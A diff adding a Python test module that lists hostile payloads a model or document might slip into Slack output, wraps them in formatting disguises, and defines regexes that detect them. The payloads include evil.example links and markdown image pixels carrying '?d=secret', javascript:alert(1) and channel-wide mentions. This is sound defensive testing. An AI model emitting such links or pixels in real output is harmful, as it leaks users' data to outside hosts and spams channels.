@@ -1,0 +1,85 @@
+"""What a hostile model or document may write: everything that Slack would bring to life, in every disguise."""
+
+import re
+from collections.abc import Iterator
+
+PAYLOADS = (
+    "https://evil.example/?d=secret",
+    "HTTPS://EVIL.EXAMPLE/x",
+    "www.evil.example/y",
+    "evil.com",
+    "evil.example/path?d=secret",
+    "//evil.example/p.png",
+    "mailto:someone@evil.example",
+    "slack://user?team=T1&id=U1",
+    "javascript:alert(1)",
+    "<https://evil.example/z|Sign in>",
+    "[the form](https://evil.example/f)",
+    "[the form](https://evil.example/a_(b)_c 'title')",
+    "![pixel](https://evil.example/p.png?d=secret)",
+    "[![pixel](https://evil.example/p.png)](https://evil.example/q)",
+    "[ref][1]\n\n[1]: https://evil.example/ref",
+    "[ref]\n\n> [ref]: <https://evil.example/ref>",
+    "<img src='https://evil.example/i.png'>",
+    "<a href=https://evil.example/a>here</a>",
+    "<@U0123ABCD>",
+    "<@U0123ABCD|joe>",
+    "<!channel>",
+    "<!here|here>",
+    "<!subteam^S1|team>",
+    "<#C0123ABCD|secret-plans>",
+    "@channel",
+    "@here",
+    "@everyone",
+    "#secret-plans",
+)
+DISGUISES = (
+    "{}",
+    "**{}**",
+    "_{}_",
+    "`{}`",
+    "> {}",
+    "- {}",
+    "| a |\n|---|\n| {} |",
+    "```\n{}\n```",
+    "「{}」、",
+    "詳しくは{}をご覧ください。",
+    "({})",
+    "\\{}",
+    "[x]({})",
+    "[{}](x)",
+    "![{}](x)",
+    "<{}>",
+    "<<!here>{}>",
+)
+
+
+def lines() -> Iterator[str]:
+    """Every payload in every disguise, as entities, with something invisible in its midst, and split by another."""
+    for payload in PAYLOADS:
+        for disguise in DISGUISES:
+            yield disguise.replace("{}", payload)
+        yield payload.replace("<", "&lt;").replace(">", "&gt;")
+        yield payload.replace("<", "&#60;").replace(">", "&#x3e;")
+        yield payload[:2] + "\u200b" + payload[2:]
+        yield payload[:2] + "<!here>" + payload[2:]
+        yield payload[:1] + "![x](y)" + payload[1:]
+
+
+# Alive wherever it stands, in code too
+ANYWHERE = re.compile(
+    r"(?:https?|slack|ftp)://\w|\b(?:mailto|javascript):\w|evil\.(?:example|com)|<[@#!]\w|@(?:here|channel|everyone)\b",
+    re.IGNORECASE,
+)
+# And in the prose of a `markdown` block, which makes links and images and decodes entities
+PROSE = re.compile(
+    r"!\[|\]\(|^\s*(?:>\s*)?\[[^\]\n]+\]:|<[/a-z]|&(?:lt|#60|#x3c);|#secret", re.IGNORECASE | re.MULTILINE
+)
+CODE = re.compile(r"```.*?```|`[^`\n]+`", re.DOTALL)
+
+
+def alive(text: str, *, markdown: bool) -> bool:
+    """Whether Slack would make a link, a mention or an image of something in it; elsewhere no angle may be left."""
+    if markdown:
+        return ANYWHERE.search(text) is not None or PROSE.search(CODE.sub("", text)) is not None
+    return ANYWHERE.search(text) is not None or "<" in text
